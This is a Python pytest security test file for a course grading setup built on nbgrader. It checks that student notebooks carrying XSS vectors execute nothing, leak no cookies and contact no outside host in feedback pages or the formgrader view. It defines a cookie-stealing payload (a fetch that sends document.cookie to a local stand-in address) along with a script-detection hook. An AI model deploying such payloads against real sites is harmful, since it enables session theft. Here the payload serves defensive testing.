"""A class in which each student tries two ways to run a script: nothing runs in any page that is made of it."""

import json
import os
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
from markupsafe import Markup
from practice import answers, write_source
from test_feedback import VECTORS

from course_utils.homework import clean, grading, pages

SECRET = "c00kie-4711"
# What each vector does besides: it writes a cookie, and sends all there are away.
THIEF = "alert(1);document.cookie=`planted=1`;fetch(`http://127.0.0.1:9/`+document.cookie)"
# A page that a script got hold of would say so, in one of these ways. nbgrader's own scripts may read cookies.
SPY = """window.ran = [];
const cookie = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
Object.defineProperty(Document.prototype, "cookie", {
  get() {
    const stack = new Error().stack;
    if (!stack.includes("/formgrader/static/")) window.ran.push("cookie read by " + stack);
    return cookie.get.call(this);
  },
  set(value) { window.ran.push("cookie written: " + value); cookie.set.call(this, value); },
});
window.alert = window.confirm = window.prompt = (...words) => { window.ran.push(words.join()); };
addEventListener("securitypolicyviolation", (event) => {
  (window.refused = window.refused || []).push(event.violatedDirective + " " + event.blockedURI);
});"""


# Two vectors a student.
PAIRS = {f"{one} and {other}": (one, other) for one, other in zip(list(VECTORS)[::2], list(VECTORS)[1::2], strict=True)}
SHOWN = "from IPython.display import display, HTML, Markdown\ndisplay(HTML({0!r}), Markdown({0!r}))\nprint({0!r})\n"
RAISED = "def {1}:\n    raise ValueError({0!r})"


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The folder that `grade` leaves, of students who hand in two vectors each, in every place of a notebook."""
    root = tmp_path_factory.mktemp("class")
    source = write_source(root / "source")
    content = json.loads(source.read_text(encoding="utf-8"))
    marks = {"grade": True, "locked": False, "points": 4, "schema_version": 3, "task": False, "solution": True}
    essays = [
        {
            "cell_type": "markdown",
            "source": "*Your answer here.*",
            "metadata": {"nbgrader": {**marks, "grade_id": name}},
        }
        for name in ("q4", "q5")
    ]
    content["cells"] += [essay | {"id": f"essay{number}"} for number, essay in enumerate(essays)]
    source.write_text(json.dumps(content), encoding="utf-8")
    for student, names in PAIRS.items():
        vectors = [VECTORS[name].replace("alert(1)", THIEF) for name in names]
        functions = "scale(values, factor)", "normalise(vector)"
        handed_in = answers(*((SHOWN + RAISED).format(*each) for each in zip(vectors, functions)))
        for essay, vector in zip(essays, vectors):
            handed_in["cells"] += [
                essay | {"source": vector, "attachments": {"x.svg": {"image/svg+xml": vector}}},
                {"cell_type": "raw", "source": vector, "metadata": {"raw_mimetype": "text/html"}},
            ]
        place = root / "submitted" / student / "practice"
        place.mkdir(parents=True)
        (place / "practice.ipynb").write_text(json.dumps(handed_in), encoding="utf-8")
    grading.grade_folder(root / "submitted", root / "grades.csv", root / "source", safe=False)
    return root / "grades"


@pytest.fixture(scope="module")
def server(graded):
    """Jupyter's server with nbgrader's formgrader, as an instructor starts it in the folder."""
    port = 47_000 + os.getpid() % 10_000
    words = ["-m", "jupyter", "server", "--no-browser", "--allow-root", f"--port={port}", "--port-retries=0"]
    words += [
        "--IdentityProvider.token=spied",
        "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}",
    ]
    process = subprocess.Popen([sys.executable, *words], cwd=graded, stderr=subprocess.PIPE)
    address = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 90
    while True:
        try:
            urllib.request.urlopen(f"{address}/api?token=spied", timeout=1).close()
            break
        except OSError:
            assert time.monotonic() < deadline
            assert process.poll() is None, process.stderr.read().decode()
            time.sleep(0.2)
    yield address
    process.kill()
    process.wait()


class Visit:
    """A page that is watched: what it asks for, and what its scripts did."""

    def __init__(self, browser):
        self.page = browser.new_page()
        self.page.set_default_timeout(180_000)  # milliseconds: a busy machine is no fault
        self.asked = []
        self.page.add_init_script(SPY)
        self.page.on("request", lambda request: self.asked.append(request.url))

    def click_everything(self):
        """Follow what a person could be made to click, without leaving."""
        self.page.evaluate(
            """() => { for (const each of document.querySelectorAll("#notebook :is(a, button, [onclick])")) {
                 each.addEventListener("click", (event) => { if (/^https?:/.test(each.href)) event.preventDefault(); });
                 if (/^javascript:|^data:/i.test(each.getAttribute("href") || "")) window.ran.push(each.href);
                 if (each.matches("#notebook-container .rendered_html *")) each.click(); } }"""
        )

    def leaving(self, address):
        return [url for url in self.asked if not url.startswith((address, "data:", "file:"))]


def cookies(visit):
    return {each["name"]: each["value"] for each in visit.page.context.cookies()}


@pytest.fixture(scope="module")
def reader(browser):
    """A page in which a student's pages are opened, one after the other."""
    return Visit(browser)


@pytest.mark.parametrize("name", PAIRS)
def test_the_page_that_a_student_gets_runs_nothing_and_asks_for_nothing(reader, graded, name):
    reader.asked.clear()
    page: Path = graded / "feedback" / name / "practice.html"
    reader.page.goto(page.as_uri())
    reader.click_everything()
    reader.page.wait_for_timeout(50)
    assert reader.page.evaluate("window.ran") == []
    assert reader.page.evaluate("document.scripts.length") == 0
    assert reader.page.evaluate("window.refused || []") == []  # nothing was there that had to be refused
    assert reader.asked == [page.as_uri()]


def test_formgrader_shows_every_submission_runs_nothing_of_it_and_asks_nobody_else(browser, server, graded):
    visit = Visit(browser)
    visit.page.context.add_cookies([{"name": "session", "value": SECRET, "url": server}])
    visit.page.goto(f"{server}/formgrader?token=spied")
    assert SECRET in visit.page.evaluate("document.cookie")  # a script could read it
    before = cookies(visit)
    listed = json.loads(
        visit.page.evaluate("fetch('/formgrader/api/submitted_notebooks/practice/practice').then(r => r.text())")
    )
    assert {each["student"] for each in listed} == set(PAIRS)
    for each in listed:
        visit.asked.clear()
        visit.page.goto(f"{server}/formgrader/submissions/{each['id']}")
        visit.page.wait_for_selector("textarea.comment")
        visit.click_everything()
        visit.page.wait_for_timeout(50)
        assert visit.page.evaluate("window.ran") == [], each["student"]
        refused = visit.page.evaluate("window.refused || []")
        assert refused == [], (each["student"], refused)
        assert visit.leaving(server) == [], each["student"]
        texts = visit.page.evaluate(
            "[...document.querySelectorAll('.rendered_html')].map((part) => part.innerHTML).join()"
        )
        assert "<script" not in texts
        assert not [url for url in visit.asked if SECRET in url], each["student"]
        assert cookies(visit) == before, each["student"]
    visit.page.close()


def test_formgrader_still_takes_points_and_comments_under_its_policy(browser, server, graded):
    from nbgrader.api import Gradebook

    visit = Visit(browser)
    visit.page.goto(f"{server}/formgrader?token=spied")
    [one, *_] = json.loads(
        visit.page.evaluate("fetch('/formgrader/api/submitted_notebooks/practice/practice').then(r => r.text())")
    )
    visit.page.goto(f"{server}/formgrader/submissions/{one['id']}")
    visit.page.wait_for_selector("#q4")
    visit.page.fill("#q4", "3")
    visit.page.locator("#q4").dispatch_event("change")
    visit.page.wait_for_timeout(1500)
    with Gradebook(f"sqlite:///{graded / 'gradebook.db'}") as gradebook:
        assert gradebook.find_grade("q4", "practice", "practice", one["student"]).manual_score == 3
    visit.page.locator(".glyphicon-eye-open").click()
    assert visit.page.locator(".live-notebook a.name-shown").is_visible()
    visit.page.close()


def test_the_stored_page_has_a_policy_before_anything_of_the_student_s(graded):
    for path in graded.glob("feedback/*/*.html"):
        text = path.read_text(encoding="utf-8")
        assert text.index("Content-Security-Policy") < text.index("<body")


def test_no_page_of_a_student_s_has_a_violation_that_axe_finds_and_its_own_style_applies(axe_finds, browser, graded):
    for path in sorted(graded.glob("feedback/*/*.html")):
        assert axe_finds(path.as_uri()) == "", path.parent.name
    strict = Visit(browser)
    strict.page.goto(path.as_uri())
    assert strict.page.evaluate("getComputedStyle(document.querySelector('table')).borderCollapse") == "collapse"
    assert strict.page.evaluate("window.refused || []") == []


def test_a_formula_is_drawn_in_formgrader_and_on_the_student_s_page(browser, server, graded):
    """The browser lays MathML out: a fraction is higher than the letters in it."""
    height = "getBoundingClientRect().height"
    higher = f"(part => part.{height} / part.firstElementChild.{height})(document.querySelector('mfrac'))"
    [student] = [name for name, pair in PAIRS.items() if "harmless" in pair]
    visit = Visit(browser)
    visit.page.goto((graded / "feedback" / student / "practice.html").as_uri())
    assert visit.page.evaluate(higher) > 1.5
    visit.page.goto(f"{server}/formgrader?token=spied")
    listed = json.loads(
        visit.page.evaluate("fetch('/formgrader/api/submitted_notebooks/practice/practice').then(r => r.text())")
    )
    [found] = [each["id"] for each in listed if each["student"] == student]
    visit.page.goto(f"{server}/formgrader/submissions/{found}")
    visit.page.wait_for_selector("mfrac")
    assert visit.page.evaluate(higher) > 1.5


WIDE = {
    "a long word": "W" * 3000,
    "a long heading": f"# {'W' * 3000}",
    "a wide table": f"|{'a|' * 400}\n|{'-|' * 400}",
    "a wide formula": f"$${'x + ' * 900} x$$",
    "marks above each other": "Z" + "\u0301\u0302" * 900,
}


@pytest.mark.parametrize("name", WIDE)
def test_no_markdown_makes_a_page_wider_or_reaches_out_of_its_cell(browser, axe_finds, name, tmp_path):
    shown = [{"markup": Markup(clean.markdown(WIDE[name]))}, {"markup": Markup(clean.markdown("The next one."))}]
    row = {"assignment": "hw1", "points": 1, "of": 1, "days late": None}
    cells = Markup(pages.render("cells.html", cells=shown))
    (tmp_path / "page.html").write_text(
        pages.render("feedback.html", row=row, most={}, comments={}, cells=cells), encoding="utf-8"
    )
    page = browser.new_page()
    page.goto((tmp_path / "page.html").as_uri())
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.evaluate("document.documentElement.scrollHeight < 20 * innerHeight")
    assert page.evaluate("getComputedStyle(document.querySelector('.cell')).overflowY") == "hidden"
    assert axe_finds((tmp_path / "page.html").as_uri()) == ""  # what is wide is read with the keys, too
    page.close()
